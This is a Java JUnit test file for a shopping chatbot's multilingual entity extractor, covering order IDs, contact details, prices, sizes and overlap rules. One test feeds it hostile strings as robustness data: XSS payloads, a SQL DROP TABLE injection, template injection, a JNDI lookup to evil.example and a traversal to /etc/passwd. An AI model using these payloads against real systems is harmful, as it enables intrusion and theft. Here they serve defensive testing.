package com.shopchat.nlu.entity;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTimeout;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayName("The entity extractor without a catalog")
class EntityExtractorTest {

  private static final EntityExtractor EXTRACTOR = EntityExtractor.create();

  /** An expected entity whose span is where {@code piece} first occurs in {@code text}. */
  static Entity at(String text, String piece, String type, String value) {
    int start = text.indexOf(piece);
    assertTrue(start >= 0, () -> "'" + piece + "' is not in '" + text + "'");
    return new Entity(type, value, start, start + piece.length());
  }

  /** An expected entity whose span is where {@code piece} last occurs in {@code text}. */
  static Entity atLast(String text, String piece, String type, String value) {
    int start = text.lastIndexOf(piece);
    assertTrue(start >= 0, () -> "'" + piece + "' is not in '" + text + "'");
    return new Entity(type, value, start, start + piece.length());
  }

  private static Arguments found(String text, Entity... expected) {
    return Arguments.of(text, List.of(expected));
  }

  static Stream<Arguments> english() {
    String t1 = "Where is my order #MT-100002?";
    String t2 = "can you help me canceling purchase 00004587345?";
    String t3 = "cancel ordr 732201349959 please";
    String t4 = "I need my invoice #00108";
    String t5 = "my email is Anna.Schmidt@Example.com.";
    String t6 = "call me on +49 30 1234567";
    String t7 = "the sweater was €79.90";
    String t8 = "reimbvurse 1200 dollars";
    String t9 = "I paid 1.299,00 € for it";
    String t10 = "I'd like 2 pairs and three units";
    String t11 = "size M / size 42 / XL";
    String t12 = "do you have it in a medium size?";
    String t13 = "is it available in navy or light blue?";
    String t14 = "do you shpi to Munich? or ship to Berlin";
    String t15 = "can i order from USA";
    String t16 = "i want assistance changng to the platinum acount";
    String t17 = "I lost my invoice from Mr. Jones";
    String t18 = "check the bill from Anna Freeman";
    String t19 = "my phone number is 030 1234567";
    return Stream.of(
      found(t1, at(t1, "#MT-100002", Entity.ORDER_ID, "MT-100002")),
      found(t2, at(t2, "00004587345", Entity.ORDER_ID, "4587345")),
      found(t3, at(t3, "732201349959", Entity.ORDER_ID, "732201349959")),
      found(t4, at(t4, "#00108", Entity.INVOICE_ID, "108")),
      found(t5, at(t5, "Anna.Schmidt@Example.com", Entity.EMAIL, "anna.schmidt@example.com")),
      found(t6, at(t6, "+49 30 1234567", Entity.PHONE, "+49301234567")),
      found(t7, at(t7, "79.90", Entity.MONEY, "79.90 EUR")),
      found(t8, at(t8, "1200", Entity.MONEY, "1200 USD")),
      found(t9, at(t9, "1.299,00", Entity.MONEY, "1299.00 EUR")),
      found(t10, at(t10, "2", Entity.QUANTITY, "2"), at(t10, "three", Entity.QUANTITY, "3")),
      found(t11, at(t11, "M", Entity.SIZE, "M"), at(t11, "42", Entity.SIZE, "42"), at(t11, "XL", Entity.SIZE, "XL")),
      found(t12, at(t12, "medium", Entity.SIZE, "M")),
      found(t13, at(t13, "navy", Entity.COLOR, "navy"), at(t13, "light blue", Entity.COLOR, "light blue")),
      found(t14, at(t14, "Munich", Entity.CITY, "Munich"), at(t14, "Berlin", Entity.CITY, "Berlin")),
      found(t15, at(t15, "USA", Entity.COUNTRY, "United States")),
      found(t16, at(t16, "platinum", Entity.ACCOUNT_TYPE, "Platinum")),
      found(t17, at(t17, "Mr. Jones", Entity.PERSON_NAME, "Mr. Jones")),
      found(t18, at(t18, "Anna Freeman", Entity.PERSON_NAME, "Anna Freeman")),
      found(t19, at(t19, "030 1234567", Entity.PHONE, "0301234567")));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("english")
  @DisplayName("English utterances give each entity with its exact span and normalized value.")
  void findsEnglishEntities(String text, List<Entity> expected) {
    assertEquals(expected, EXTRACTOR.extract(text));
  }

  static Stream<Arguments> chinese() {
    String t1 = "订单 MT-100002 还没到";
    String t2 = "我要两件黑色的中号";
    String t3 = "寄到上海";
    String t4 = "退款五十元到我的邮箱 li.wei@example.com";
    String t5 = "我想升级到白金会员";
    String t6 = "我叫王小明，手机13800138000";
    String t7 = "能寄到美国吗";
    String t8 = "发票号：00108";
    String t9 = "我要三双42码的";
    return Stream.of(
      found(t1, at(t1, "MT-100002", Entity.ORDER_ID, "MT-100002")),
      found(t2, at(t2, "两", Entity.QUANTITY, "2"), at(t2, "黑色", Entity.COLOR, "black"),
        at(t2, "中号", Entity.SIZE, "M")),
      found(t3, at(t3, "上海", Entity.CITY, "Shanghai")),
      found(t4, at(t4, "五十", Entity.MONEY, "50 CNY"), at(t4, "li.wei@example.com", Entity.EMAIL, "li.wei@example.com")),
      found(t5, at(t5, "白金", Entity.ACCOUNT_TYPE, "Platinum")),
      found(t6, at(t6, "王小明", Entity.PERSON_NAME, "王小明"), at(t6, "13800138000", Entity.PHONE, "+8613800138000")),
      found(t7, at(t7, "美国", Entity.COUNTRY, "United States")),
      found(t8, at(t8, "00108", Entity.INVOICE_ID, "108")),
      found(t9, at(t9, "三", Entity.QUANTITY, "3"), at(t9, "42", Entity.SIZE, "42")));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("chinese")
  @DisplayName("Chinese utterances give each entity with its exact span and normalized value.")
  void findsChineseEntities(String text, List<Entity> expected) {
    assertEquals(expected, EXTRACTOR.extract(text));
  }

  static Stream<Arguments> overlaps() {
    String t1 = "I want to upgrade my gold account";
    String t2 = "do you deliver to Mexico City?";
    String t3 = "what is the status of order number 0301234567";
    String t4 = "refund $1200 for purchase 1200";
    String t5 = "ship to the U.S.A. please";
    return Stream.of(
      found(t1, at(t1, "gold", Entity.ACCOUNT_TYPE, "Gold")),
      found(t2, at(t2, "Mexico City", Entity.CITY, "Mexico City")),
      found(t3, at(t3, "0301234567", Entity.ORDER_ID, "301234567")),
      found(t4, at(t4, "1200", Entity.MONEY, "1200 USD"), new Entity(Entity.ORDER_ID, "1200", 26, 30)),
      found(t5, at(t5, "U.S.A.", Entity.COUNTRY, "United States")));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("overlaps")
  @DisplayName("Where candidates overlap, the longer span and then the stronger evidence wins.")
  void resolvesOverlaps(String text, List<Entity> expected) {
    assertEquals(expected, EXTRACTOR.extract(text));
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"free shipping on orders over 50", "gold earrings", "Nice to meet you",
    "a turkey sandwich", "I'm older than that", "Black Friday deals", "set up a new password",
    "file a complaint against your business", "checking invoice from 7 purchases ago", "我想问一个问题",
    "South America"})
  @DisplayName("Everyday words that look like entities are left alone.")
  void leavesEverydayWordsAlone(String text) {
    assertEquals(List.of(), EXTRACTOR.extract(text));
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"<script>alert('x')</script>", "<img src=x onerror=alert(document.cookie)>",
    "'; DROP TABLE orders; --", "\" OR 1=1 --", "{{7*7}} ${7*7}", "${jndi:ldap://evil.example/a}",
    "javascript:alert(1)", "../../etc/passwd", "\u0000\u202e\ufeff", "@@@@ ...@. a@ @b .@.", "#####", "+++ ---"})
  @DisplayName("Injection and markup strings give no entities and no exception.")
  void ignoresInjectionStrings(String text) {
    assertEquals(List.of(), EXTRACTOR.extract(text));
  }

  @Test
  @DisplayName("Null, empty and blank text give no entities.")
  void emptyTextGivesNothing() {
    assertEquals(List.of(), EXTRACTOR.extract(null));
    assertEquals(List.of(), EXTRACTOR.extract(""));
    assertEquals(List.of(), EXTRACTOR.extract(" \t\n "));
  }

  @Test
  @DisplayName("Spans count UTF-16 chars, so text after an emoji is two chars further on per emoji.")
  void spansCountCharsNotCodePoints() {
    String text = "😀 order MT-100002";
    assertEquals(List.of(new Entity(Entity.ORDER_ID, "MT-100002", 9, 18)), EXTRACTOR.extract(text));
  }

  @ParameterizedTest(name = "{index}")
  @ValueSource(strings = {"1", "a@", "a.", "1 ", "order ", "x", "€1,", "Mr. A ", "我叫", "size ", "#1"})
  @DisplayName("A 200,000-character text made of one repeated fragment is scanned in well under a second per pattern.")
  void longRepetitiveTextIsLinear(String fragment) {
    String text = fragment.repeat(200_000 / fragment.length()) + " order MT-100002";
    List<Entity> found = assertTimeout(Duration.ofSeconds(5), () -> EXTRACTOR.extract(text));
    assertEquals(new Entity(Entity.ORDER_ID, "MT-100002", text.length() - 9, text.length()),
      found.get(found.size() - 1));
  }
}
